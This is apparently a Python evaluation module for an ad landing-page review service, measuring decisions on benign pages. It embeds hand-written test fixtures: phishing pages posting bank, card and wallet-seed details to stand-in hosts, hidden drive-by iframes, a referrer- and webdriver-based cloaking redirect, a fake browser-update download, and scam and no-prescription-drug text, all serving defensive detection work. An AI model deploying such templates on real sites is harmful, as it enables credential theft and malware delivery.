"""`adrisk pages eval`: what the service decides on real benign pages sent as HTML alone.

Each page of a corpus built by `adrisk pages build` (evaluation/page_corpus.py) goes to the review
pipeline as `{"landing_page": {"html": ...}}` with `options.record: false` (and, with `--with-url`,
once more with the URL the page is published at, where the corpus knows it). Two ways to run it:

- through a real service (`--url` of a running one, or `--local` to start one for the run):
  POST /v1/review:batch, exactly what a client does;
- `--in-process`: the ingress's own ReviewPipeline (page analysis, phishing head, text encoder,
  heads, scoring, fusion, policy) built in this process with in-process model calls instead of Ray
  handles. Same code, same decisions; no Ray start-up, so tests can afford it.

The report gives the share of pages per action (approve / human_review / deboost / reject), per
variant and kind, how often each page signal fires (and how often it alone reaches its category's
review threshold), which evidence drives the pages that are not approved, and each signal's firing
on a handful of hand-written phishing pages (synthetic positives, not real phishing: see
SYNTHETIC_POSITIVES) so a precision can be stated with that caveat, what the model evidence about the
pages (text heads on page text, URL head, page-phishing head) reaches as scored and as counted after
the page evidence gate (multimodal/page_evidence.py), and the actions on a few hand-written content
pages (scam, miracle cure, fake endorsement, pharmacy, replicas, adult: CONTENT_POSITIVES) that show
what the gate costs.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import re
import tempfile
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from evaluation.page_corpus import VARIANTS, read_manifest

ACTIONS = ("approve", "deboost", "human_review", "reject", "suspend_account")
HTML_ONLY = "html"
WITH_URL = "url+html"

# Hand-written phishing/cloaking pages (this project's own, like the ones under tests/): the only
# positives available here, so any precision computed with them is indicative only.
SYNTHETIC_POSITIVES: dict[str, tuple[str, str]] = {
    "bank-credential-harvest": ("https://northgate-bank-secure.example.top/login", """<!doctype html>
<html><head><title>Northgate Bank | Online Banking Sign In</title></head><body>
<h1>Online Banking</h1>
<p>Unusual activity was detected. Verify your account within 24 hours or it will be suspended.</p>
<form action="https://verify-session-gate.example.ru/gate.php" method="post">
<label for="u">Customer ID</label><input id="u" name="customer_id">
<label for="p">Password</label><input id="p" type="password" name="pass">
<label for="c">Card number</label><input id="c" name="cardnumber" autocomplete="cc-number">
<label for="v">CVV</label><input id="v" name="cvv"><button>Continue</button></form></body></html>"""),
    "wallet-seed-phrase": ("https://wallet-restore-sync.example.app/", """<!doctype html>
<html><head><title>Restore your wallet</title></head><body><h1>Wallet synchronisation</h1>
<p>Your wallet needs to be validated. Enter your secret recovery phrase to continue.</p>
<form action="https://api-node-sync.example.xyz/submit" method="post">
<label for="s">Secret recovery phrase</label><textarea id="s" name="mnemonic" rows="3"></textarea>
<button>Validate</button></form></body></html>"""),
    "paypal-kit-relative-post": ("http://paypal.com-account-security.example.xyz/signin/", """<!doctype html>
<html><head><title>PayPal: Log in to your account</title></head><body><h1>PayPal</h1>
<p>Your account has been limited. Confirm your identity.</p>
<form action="next.php" method="post"><input name="login_email" placeholder="Email">
<input type="password" name="login_password" placeholder="Password"><button>Log In</button></form>
</body></html>"""),
    "microsoft-cross-domain": ("https://office365-docs-share.example.web.app/", """<!doctype html>
<html><head><title>Sign in to your Microsoft account</title></head><body><h1>Microsoft</h1>
<p>A document was shared with you. Sign in to view it.</p>
<form action="https://forms-collect.example.net/f/8f3k2" method="post">
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype">
<input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></body></html>"""),
    "hidden-iframe-drive-by": ("https://free-movie-stream.example.click/", """<!doctype html>
<html><head><title>Watch free movies online</title></head><body><h1>Stream now</h1>
<iframe src="http://203.0.113.7/ek/land.php?id=77" width="1" height="1" style="visibility:hidden"></iframe>
<iframe src="http://cdn-update-check.example.biz/gate" style="display:none"></iframe>
<p>Loading player...</p></body></html>"""),
    "js-redirect-cloak": ("https://healthy-recipes-daily.example.com/", """<!doctype html>
<html><head><title>Healthy recipes</title>
<script>if (!navigator.webdriver && document.referrer.indexOf("google") < 0) {
  window.location.replace("https://lucky-prize-winner.example.click/claim?src=ad"); }</script></head>
<body><h1>Ten quick salads</h1><p>Fresh ideas for every day.</p></body></html>"""),
    "fake-update-download": ("https://browser-update-center.example.top/", """<!doctype html>
<html><head><title>Critical browser update</title>
<meta http-equiv="refresh" content="3; url=https://dl-mirror.example.ru/ChromeUpdate.exe"></head>
<body><h1>Your browser is out of date</h1><p>Act now: install the update immediately.</p>
<a href="https://dl-mirror.example.ru/ChromeUpdate.exe" download>Download update</a></body></html>"""),
}


# Hand-written content-violation landing pages (not phishing): the page text is the only evidence of
# the violation, so they show what holding page text to "one band weaker" (configs/page_signals.yaml
# model_evidence) costs when a page is sent without its ad.
CONTENT_POSITIVES: dict[str, tuple[str, str]] = {
    "crypto-giveaway": ("https://btc-double-event.example.top/", """<!doctype html><html><head>
<title>Official Bitcoin Giveaway - Double Your BTC Today</title></head><body><h1>5,000 BTC Giveaway Event</h1>
<p>To celebrate our launch we are giving away 5,000 BTC to the community. Send any amount between 0.1 BTC
and 20 BTC to the address below and we will immediately send back double the amount to the address you sent from.</p>
<p>Send 0.5 BTC, get 1 BTC back. Send 1 BTC, get 2 BTC back. Guaranteed returns, no risk, instant payout.</p>
<p>Wallet address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>
<p>Only the first 1,000 participants qualify. Hurry, the event ends when the remaining balance runs out.</p>
</body></html>"""),
    "miracle-weight-loss": ("https://slim-keto-burn.example.com/", """<!doctype html><html><head>
<title>Lose 30 Pounds in 30 Days Without Diet or Exercise</title></head><body>
<h1>The miracle pill doctors don't want you to know about</h1>
<p>This one weird trick melts belly fat overnight. Thousands of women have lost 30 pounds in just 30 days
without changing what they eat and without any exercise. Clinically proven, 100% guaranteed results.</p>
<p>Our formula cures diabetes, reverses aging and burns fat while you sleep. Doctors hate it.</p>
<p>Order now and get 3 bottles free. Results guaranteed or your money back.</p></body></html>"""),
    "celebrity-endorsement": ("https://daily-finance-news.example.click/article", """<!doctype html><html><head>
<title>Famous billionaire reveals the investment that made him rich - as seen on the news</title></head><body>
<h1>Celebrity endorses new crypto trading robot live on national TV</h1>
<p>In a stunning interview the famous celebrity revealed the automated trading platform that turns $250 into
$10,000 in a week. The presenter tried to stop him, but he kept talking. The video was removed hours later.</p>
<p>Sign up today with a deposit of $250 and let the robot trade for you. Thousands of ordinary people are already
earning $1,000 a day.</p></body></html>"""),
    "online-pharmacy": ("https://cheap-meds-now.example.top/", """<!doctype html><html><head>
<title>Buy Oxycodone and Xanax Online - No Prescription Needed</title></head><body>
<h1>Order painkillers online without a prescription</h1>
<p>Buy oxycodone, xanax, valium and tramadol online with no prescription and no doctor visit. Discreet
worldwide shipping, overnight delivery.</p><p>Cheapest prices, pay with bitcoin.</p></body></html>"""),
    "replica-bags": ("https://luxury-replica-outlet.example.shop/", """<!doctype html><html><head>
<title>Replica Designer Handbags - Perfect Copies 90% Off</title></head><body>
<h1>Top quality replica luxury bags</h1><p>Replica designer handbags, perfect 1:1 copies of luxury brands at
90% off. Fake watches and counterfeit sneakers indistinguishable from the original.</p></body></html>"""),
    "adult-dating": ("https://hot-singles-tonight.example.xyz/", """<!doctype html><html><head>
<title>Hot singles near you want to meet tonight</title></head><body>
<h1>Explicit adult chat - adults only</h1><p>Nude photos and sexual videos of hot singles in your area.
Sign up free for explicit adult chat and hookups tonight.</p></body></html>"""),
}
# Model evidence about the page (scored by the text heads, the URL head and the page-phishing head).
PAGE_TEXT_SOURCES = ("landing_page.title", "landing_page.meta", "landing_page.text")
MODEL_SOURCES = (*PAGE_TEXT_SOURCES, "landing_page.url", "landing_page.phishing_head")
_COUNTED = re.compile(r"\[counted ([0-9.]+), not ([0-9.]+):")

@dataclass
class PageCase:
    id: str  # manifest id, or "synthetic:<name>"
    kind: str
    variant: str
    mode: str  # html | url+html
    source: str
    request: dict[str, Any]


@dataclass
class PageOutcome:
    case: PageCase
    ok: bool
    action: str = ""
    categories: list[str] = field(default_factory=list)
    scores: dict[str, float] = field(default_factory=dict)
    evidence: list[dict[str, Any]] = field(default_factory=list)
    error: str = ""

    def signals(self) -> dict[str, float]:
        out: dict[str, float] = {}
        for e in self.evidence:
            src = str(e["source"])
            if src.startswith("landing_page:"):
                name = src.split(":", 1)[1]
                out[name] = max(out.get(name, 0.0), float(e["score"]))
        return out


def _request(html: str, url: str | None) -> dict[str, Any]:
    page = {"html": html, **({"url": url} if url else {})}
    return {"landing_page": page, "options": {"record": False, "summary": "none"}}


def corpus_cases(corpus: Path, with_url: bool = False, variants: tuple[str, ...] = VARIANTS,
                 limit: int | None = None) -> list[PageCase]:
    entries = [e for e in read_manifest(corpus) if e["variant"] in variants]
    if limit is not None:
        entries = entries[:limit]
    cases = []
    for e in entries:
        html = (corpus / e["file"]).read_text(encoding="utf-8", errors="replace")
        cases.append(PageCase(e["id"], e["kind"], e["variant"], HTML_ONLY, e["source"], _request(html, None)))
        if with_url and e.get("url"):
            cases.append(PageCase(e["id"], e["kind"], e["variant"], WITH_URL, e["source"], _request(html, e["url"])))
    return cases


def synthetic_cases() -> list[PageCase]:
    cases = []
    for name, (url, html) in SYNTHETIC_POSITIVES.items():
        for mode, page_url in ((HTML_ONLY, None), (WITH_URL, url)):
            cases.append(PageCase(f"synthetic:{name}", "phishing", "synthetic_positive", mode, "evaluation.page_eval",
                                  _request(html, page_url)))
    return cases


def content_cases() -> list[PageCase]:
    cases = []
    for name, (url, html) in CONTENT_POSITIVES.items():
        for mode, page_url in ((HTML_ONLY, None), (WITH_URL, url)):
            cases.append(PageCase(f"content:{name}", "content", "content_positive", mode, "evaluation.page_eval",
                                  _request(html, page_url)))
    return cases


# ----------------------------------------------------------------------------------- running
class InProcessReviewer:
    """The ingress's ReviewPipeline with the model deployments replaced by in-process calls."""

    def __init__(self, profile: str = "cpu") -> None:
        import numpy as np

        from core.config import StoreConfig, load_config, resolve_project_path
        from core.errors import UnprocessableInput
        from core.store_factory import open_store
        from models.heads import HeadSet
        from models.scoring import score_job
        from models.text_encoder import SentenceTransformerEncoder
        from serving.pipeline import ReviewPipeline

        self.config = config = load_config(profile, {"llm": None})
        encoder = SentenceTransformerEncoder(config.text_encoder)
        encoder.setup()
        heads = HeadSet.load(resolve_project_path(config.heads.text), config.taxonomy,
                             config.heads.zero_shot_scale, config.heads.zero_shot_bias)
        self._tmp = tempfile.TemporaryDirectory(prefix="adrisk-pages-")

        async def no_media(items: list[Any]) -> list[Any]:
            raise UnprocessableInput("the page evaluation sends no images")

        async def embed(texts: list[str]) -> Any:
            return encoder.encode(texts).astype(np.float16)

        async def score(payload: tuple[list[Any], str]) -> list[Any]:
            return [score_job(job, heads) for job in payload[0]]

        store = open_store(StoreConfig(path=str(Path(self._tmp.name) / "decisions.sqlite3")))
        self.pipeline = ReviewPipeline(config, no_media, embed, score, store)

    def thresholds(self) -> dict[str, tuple[float, float]]:
        return {c.id: (self.config.thresholds(c.id).review, self.config.thresholds(c.id).reject)
                for c in self.config.taxonomy.categories}

    def policy_version(self) -> str:
        return f"{self.config.policy.name}@{self.config.policy.version}"

    def run(self, cases: list[PageCase], batch_size: int = 16, progress: bool = True) -> list[PageOutcome]:
        from tqdm import tqdm

        from core.errors import AdriskError
        from core.schemas import ReviewRequest

        bar = tqdm(total=len(cases), unit="page", desc="pages", disable=not progress)

        async def run_all() -> list[PageOutcome]:
            out: list[PageOutcome] = []
            for start in range(0, len(cases), batch_size):
                chunk = cases[start:start + batch_size]
                requests = [ReviewRequest.model_validate({**c.request, "request_id": f"page-{start + i}"})
                            for i, c in enumerate(chunk)]
                results = await self.pipeline.review_many(requests)
                for case, result in zip(chunk, results, strict=True):
                    if isinstance(result, AdriskError):
                        out.append(PageOutcome(case, False, error=f"{result.code}: {result.detail}"))
                    else:
                        body = result.model_dump(mode="json")
                        out.append(PageOutcome(case, True, body["decision"]["action"],
                                               body["decision"]["categories"], body["scores"], body["evidence"]))
                bar.update(len(chunk))
            return out

        try:
            return asyncio.run(run_all())
        finally:
            bar.close()

    def close(self) -> None:
        self._tmp.cleanup()


def run_service(url: str, cases: list[PageCase], batch_size: int, concurrency: int,
                progress: bool = True) -> list[PageOutcome]:
    from evaluation.dataset import LabeledExample
    from evaluation.runner import run_through_service

    examples = [LabeledExample(id=f"p{i}", source=c.mode, request=c.request, benign=True)
                for i, c in enumerate(cases)]
    outcomes = asyncio.run(run_through_service(url, examples, batch_size, concurrency, progress=progress))
    by_id = {o.example.id: o for o in outcomes}
    out = []
    for i, case in enumerate(cases):
        o = by_id.get(f"p{i}")
        if o is None:
            out.append(PageOutcome(case, False, error="no answer"))
        else:
            out.append(PageOutcome(case, o.ok, o.action, o.categories, o.scores, o.evidence, o.error))
    return out


# ----------------------------------------------------------------------------------- metrics
def _base_source(source: str) -> str:
    return re.sub(r"\[\d+\]", "", source)


def _drivers(o: PageOutcome) -> list[str]:
    """The evidence that put a page over a threshold: per decided category, its strongest source."""
    found = []
    for category in o.categories:
        best = max((e for e in o.evidence if e["category"] == category), key=lambda e: e["score"], default=None)
        if best is not None:
            found.append(f"{category} ← {_base_source(str(best['source']))}")
    return found


def _share(n: int, total: int) -> float:
    return round(n / total, 4) if total else 0.0


def _model_evidence(ok: list[PageOutcome], thresholds: dict[str, tuple[float, float]]) -> dict[str, Any]:
    """Per "category ← model source": pages where it reaches the review threshold as the model scored it,
    and as it counted after the page evidence gate (its evidence says "counted x, not y" when capped)."""
    scored: Counter[str] = Counter()
    counted: Counter[str] = Counter()
    for o in ok:
        raw: dict[str, float] = {}
        kept: dict[str, float] = {}
        for e in o.evidence:
            source = _base_source(str(e["source"]))
            if source not in MODEL_SOURCES:
                continue
            capped = _COUNTED.search(str(e.get("detail", "")))
            keys = [f"{e['category']} ← {source}"]
            if source in PAGE_TEXT_SOURCES:
                keys.append(f"{e['category']} ← page text (any part)")
            for key in keys:
                raw[key] = max(raw.get(key, 0.0), float(capped.group(2)) if capped else float(e["score"]))
                kept[key] = max(kept.get(key, 0.0), float(e["score"]))
        for key, value in raw.items():
            review = thresholds.get(key.split(" ← ")[0], (1.0, 1.0))[0]
            scored[key] += value >= review
            counted[key] += kept[key] >= review
    return {key: {"scored_reaches_review": _share(scored[key], len(ok)), "pages_scored": scored[key],
                  "counted_reaches_review": _share(counted[key], len(ok)), "pages_counted": counted[key]}
            for key in sorted(scored, key=lambda k: -scored[k]) if scored[key]}


def summarise_group(outcomes: list[PageOutcome], thresholds: dict[str, tuple[float, float]],
                    signal_categories: dict[str, str]) -> dict[str, Any]:
    ok = [o for o in outcomes if o.ok]
    actions = Counter(o.action for o in ok)
    fired: Counter[str] = Counter()
    alone: Counter[str] = Counter()
    for o in ok:
        for name, score in o.signals().items():
            fired[name] += 1
            category = signal_categories.get(name)
            if category and score >= thresholds.get(category, (1.0, 1.0))[0]:
                alone[name] += 1
    drivers = Counter(d for o in ok if o.action != "approve" for d in _drivers(o))
    by_kind: dict[str, dict[str, Any]] = {}
    for kind in sorted({o.case.kind for o in ok}):
        group = [o for o in ok if o.case.kind == kind]
        counts = Counter(o.action for o in group)
        by_kind[kind] = {"n": len(group), **{a: _share(counts[a], len(group)) for a in ACTIONS}}
    pages = [o for o in ok if o.case.kind != "error"]
    not_error = Counter(o.action for o in pages)
    return {
        "n": len(outcomes),
        "errors": len(outcomes) - len(ok),
        "actions": {a: _share(actions[a], len(ok)) for a in ACTIONS},
        # 4xx/5xx and maintenance pages are a destination-quality problem by definition: deboost or
        # review is right for them, so the overkill figure leaves them out.
        "actions_without_error_pages": {"n": len(pages), **{a: _share(not_error[a], len(pages)) for a in ACTIONS}},
        "action_counts": {a: actions[a] for a in ACTIONS},
        "by_kind": by_kind,
        "signals": {name: {"fired": _share(fired[name], len(ok)), "alone_reaches_review": _share(alone[name], len(ok)),
                           "pages": fired[name]}
                    for name in sorted(signal_categories)},
        "drivers_of_non_approve": dict(drivers.most_common()),
        "model_evidence": _model_evidence(ok, thresholds),
    }


def summarise(outcomes: list[PageOutcome], synthetic: list[PageOutcome],
              thresholds: dict[str, tuple[float, float]], signal_categories: dict[str, str],
              content: list[PageOutcome] | None = None) -> dict[str, Any]:
    groups: dict[str, list[PageOutcome]] = defaultdict(list)
    for o in outcomes:
        groups[f"{o.case.mode} / {o.case.variant}"].append(o)
        groups[f"{o.case.mode} / all"].append(o)
    metrics: dict[str, Any] = {"groups": {k: summarise_group(v, thresholds, signal_categories)
                                          for k, v in sorted(groups.items())}}
    precision: dict[str, Any] = {}
    for mode in (HTML_ONLY, WITH_URL):
        benign = [o for o in outcomes if o.ok and o.case.mode == mode]
        positives = [o for o in synthetic if o.ok and o.case.mode == mode]
        if not positives:
            continue
        rows = {}
        for name in sorted(signal_categories):
            tp = sum(name in o.signals() for o in positives)
            fp = sum(name in o.signals() for o in benign)
            rows[name] = {"synthetic_positives_fired": tp, "synthetic_positives": len(positives),
                          "benign_fired": fp, "benign": len(benign),
                          "precision": round(tp / (tp + fp), 4) if tp + fp else None}
        precision[mode] = rows
    metrics["precision_vs_synthetic_positives"] = precision
    metrics["synthetic_positives"] = [
        {"id": o.case.id, "mode": o.case.mode, "action": o.action, "categories": o.categories,
         "signals": o.signals(), "error": o.error} for o in synthetic]
    metrics["content_positives"] = [
        {"id": o.case.id, "mode": o.case.mode, "action": o.action, "categories": o.categories,
         "drivers": _drivers(o), "error": o.error} for o in content or []]
    metrics["not_approved"] = [
        {"id": o.case.id, "mode": o.case.mode, "variant": o.case.variant, "kind": o.case.kind, "action": o.action,
         "drivers": _drivers(o), "signals": o.signals()}
        for o in outcomes if o.ok and o.action != "approve"]
    metrics["failed"] = [{"id": o.case.id, "mode": o.case.mode, "error": o.error} for o in outcomes if not o.ok]
    return metrics


# ----------------------------------------------------------------------------------- report
def _pct(x: float | None) -> str:
    return "–" if x is None else f"{100 * x:.1f}%"


def render_report(metrics: dict[str, Any], notes: list[str]) -> str:
    lines = ["# Landing-page corpus evaluation", "", *[f"- {n}" for n in notes], ""]
    lines += ["## Decisions", "", "| run / variant | pages | errors | approve | deboost | human_review | reject |",
              "|---|---:|---:|---:|---:|---:|---:|"]
    for name, g in metrics["groups"].items():
        a = g["actions"]
        lines.append(f"| {name} | {g['n']} | {g['errors']} | {_pct(a['approve'])} | {_pct(a['deboost'])} | "
                     f"{_pct(a['human_review'])} | {_pct(a['reject'] + a['suspend_account'])} |")
    lines += ["", "Without the error pages (4xx/5xx/maintenance, where deboost or review is the right call):", "",
              "| run / variant | pages | approve | deboost | human_review | reject |", "|---|---:|---:|---:|---:|---:|"]
    for name, g in metrics["groups"].items():
        a = g["actions_without_error_pages"]
        lines.append(f"| {name} | {a['n']} | {_pct(a['approve'])} | {_pct(a['deboost'])} | "
                     f"{_pct(a['human_review'])} | {_pct(a['reject'] + a['suspend_account'])} |")
    lines += ["", "## Per kind (HTML alone, all variants)", "",
              "| kind | pages | approve | deboost | human_review | reject |", "|---|---:|---:|---:|---:|---:|"]
    for kind, row in metrics["groups"].get(f"{HTML_ONLY} / all", {}).get("by_kind", {}).items():
        lines.append(f"| {kind} | {row['n']} | {_pct(row['approve'])} | {_pct(row['deboost'])} | "
                     f"{_pct(row['human_review'])} | {_pct(row['reject'] + row['suspend_account'])} |")
    names = [k for k in metrics["groups"] if k.startswith(HTML_ONLY) or k.startswith(WITH_URL)]
    lines += ["", "## Page signals: share of pages where each fires (and where it alone reaches its "
              "category's review threshold)", "",
              "| signal | " + " | ".join(names) + " |", "|---|" + "---:|" * len(names)]
    signals = sorted({s for g in metrics["groups"].values() for s in g["signals"]})
    for s in signals:
        cells = []
        for n in names:
            row = metrics["groups"][n]["signals"].get(s, {"fired": 0, "alone_reaches_review": 0})
            cells.append(f"{_pct(row['fired'])} ({_pct(row['alone_reaches_review'])})")
        lines.append(f"| {s} | " + " | ".join(cells) + " |")
    for mode, rows in metrics["precision_vs_synthetic_positives"].items():
        lines += ["", f"## Precision against synthetic positives ({mode})", "",
                  f"Positives are the {len(SYNTHETIC_POSITIVES)} hand-written phishing/cloaking pages in "
                  "evaluation/page_eval.py (SYNTHETIC_POSITIVES), not real phishing: precision here is "
                  "TP / (TP + benign pages firing) at this corpus's mix, an indication only.", "",
                  "| signal | synthetic positives firing | benign pages firing | precision |", "|---|---:|---:|---:|"]
        for s, r in rows.items():
            lines.append(f"| {s} | {r['synthetic_positives_fired']}/{r['synthetic_positives']} | "
                         f"{r['benign_fired']}/{r['benign']} | {_pct(r['precision'])} |")
    lines += ["", "## Synthetic positives", "", "| page | run | action | signals |", "|---|---|---|---|"]
    for row in metrics["synthetic_positives"]:
        sig = ", ".join(f"{k} {v:.2f}" for k, v in sorted(row["signals"].items()))
        lines.append(f"| {row['id']} | {row['mode']} | {row['action'] or row['error']} | {sig} |")
    if metrics.get("content_positives"):
        lines += ["", "## Content positives (hand-written scam / misleading / drugs / counterfeit / adult pages)", "",
                  "CONTENT_POSITIVES in evaluation/page_eval.py: the page text is the only evidence of the "
                  "violation (no ad copy is sent).", "",
                  "| page | run | action | drivers |", "|---|---|---|---|"]
        for row in metrics["content_positives"]:
            lines.append(f"| {row['id']} | {row['mode']} | {row['action'] or row['error']} | "
                         f"{'; '.join(row['drivers'])} |")
    model_names = [k for k in metrics["groups"] if k.endswith("/ all")]
    lines += ["", "## Model evidence about the pages: share of pages where it reaches its category's review "
              "threshold as scored → as counted after the page evidence gate", "",
              "| category ← source | " + " | ".join(model_names) + " |", "|---|" + "---:|" * len(model_names)]
    keys = list(dict.fromkeys(k for n in model_names for k in metrics["groups"][n].get("model_evidence", {})))
    for key in keys:
        cells = []
        for n in model_names:
            row = metrics["groups"][n].get("model_evidence", {}).get(key)
            cells.append(f"{_pct(row['scored_reaches_review'])} → {_pct(row['counted_reaches_review'])}" if row
                         else "–")
        lines.append(f"| {key} | " + " | ".join(cells) + " |")
    drivers = metrics["groups"].get(f"{HTML_ONLY} / all", {}).get("drivers_of_non_approve", {})
    lines += ["", "## What drives the pages that are not approved (HTML alone)", "",
              "| category ← strongest evidence | pages |", "|---|---:|"]
    lines += [f"| {k} | {v} |" for k, v in drivers.items()] or ["| (none) | 0 |"]
    lines += ["", "## Pages not approved", "", "| page | run | variant | kind | action | drivers |",
              "|---|---|---|---|---|---|"]
    for row in metrics["not_approved"][:200]:
        lines.append(f"| {row['id']} | {row['mode']} | {row['variant']} | {row['kind']} | {row['action']} | "
                     f"{'; '.join(row['drivers'])} |")
    if len(metrics["not_approved"]) > 200:
        lines.append(f"| … {len(metrics['not_approved']) - 200} more in metrics.json | | | | | |")
    if metrics["failed"]:
        lines += ["", "## Failed requests", ""]
        lines += [f"- {f['id']} ({f['mode']}): {f['error']}" for f in metrics["failed"]]
    return "\n".join(lines) + "\n"


def write_page_report(metrics: dict[str, Any], report: Path, notes: list[str]) -> Path:
    report.mkdir(parents=True, exist_ok=True)
    (report / "metrics.json").write_text(json.dumps(metrics, indent=2) + "\n")
    path = report / "report.md"
    path.write_text(render_report(metrics, notes))
    return path


def signal_categories() -> dict[str, str]:
    from multimodal.page_rules import load_page_signals

    return {name: spec.category for name, spec in load_page_signals().signals.items()}


def _local_model_idents(profile: str) -> str:
    """The text-head set and page head this checkout would serve (name@version + weights digest)."""
    import hashlib

    from core.config import load_config, resolve_project_path

    heads = load_config(profile, {"llm": None}).heads
    out = []
    for path in (resolve_project_path(heads.text), resolve_project_path(heads.page)):
        manifest = json.loads((path / "manifest.json").read_text())
        weights = next(iter(sorted(path.glob("*.npz"))), None)
        digest = hashlib.sha256(weights.read_bytes()).hexdigest()[:12] if weights else "-"
        out.append(f"{manifest['name']}@{manifest['version']} ({weights.name if weights else ''} {digest})")
    return ", ".join(out)


def evaluate_corpus(corpus: Path, report: Path, *, url: str | None = None, local: bool = False,
                    in_process: bool = False, profile: str = "cpu", with_url: bool = False,
                    variants: tuple[str, ...] = VARIANTS, limit: int | None = None, batch_size: int = 8,
                    concurrency: int = 2, progress: bool = True,
                    start_local: Callable[[str], tuple[str, Callable[[], None]]] | None = None) -> dict[str, Any]:
    """Run the corpus (and the synthetic positives) through the service; write report.md + metrics.json."""
    cases = corpus_cases(corpus, with_url, variants, limit)
    synthetic = synthetic_cases() if with_url else [c for c in synthetic_cases() if c.mode == HTML_ONLY]
    content = content_cases() if with_url else [c for c in content_cases() if c.mode == HTML_ONLY]
    started = dt.datetime.now(dt.UTC)
    if in_process:
        reviewer = InProcessReviewer(profile)
        try:
            thresholds, policy = reviewer.thresholds(), reviewer.policy_version()
            outcomes = reviewer.run(cases + synthetic + content, batch_size=16, progress=progress)
        finally:
            reviewer.close()
        where = "in-process ReviewPipeline (the ingress's code; model calls in this process)"
    else:
        from evaluation.runner import service_thresholds

        stop = None
        if local:
            assert start_local is not None
            url, stop = start_local(profile)
        assert url is not None
        try:
            thresholds, policy = service_thresholds(url)
            outcomes = run_service(url, cases + synthetic + content, batch_size, concurrency, progress)
        finally:
            if stop:
                stop()
        where = "a service started locally for this run" if local else f"the service at {url}"
    corpus_out = outcomes[: len(cases)]
    synthetic_out = outcomes[len(cases): len(cases) + len(synthetic)]
    content_out = outcomes[len(cases) + len(synthetic):]
    metrics = summarise(corpus_out, synthetic_out, thresholds, signal_categories(), content_out)
    metrics["policy_version"] = policy
    metrics["corpus"] = str(corpus)
    from multimodal.page_rules import load_page_signals

    metrics["page_signals_version"] = load_page_signals().version
    metrics["models_here"] = _local_model_idents(profile)
    notes = [f"Corpus: {corpus} ({len(cases)} requests; see its manifest.jsonl and corpus.json)",
             f"Service: {where}; policy {policy}; page signals {metrics['page_signals_version']}",
             f"Models (this checkout's artifacts): {metrics['models_here']}",
             f"Date: {started:%Y-%m-%d %H:%M} UTC; `options.record: false` (nothing logged)",
             "Runs: `html` sends the page as HTML alone; `url+html` adds the URL it is published at "
             "(docs sites and Bootstrap's examples only).",
             "Every corpus page is benign: anything but approve is overkill."]
    path = write_page_report(metrics, report, notes)
    metrics["report"] = str(path)
    return metrics
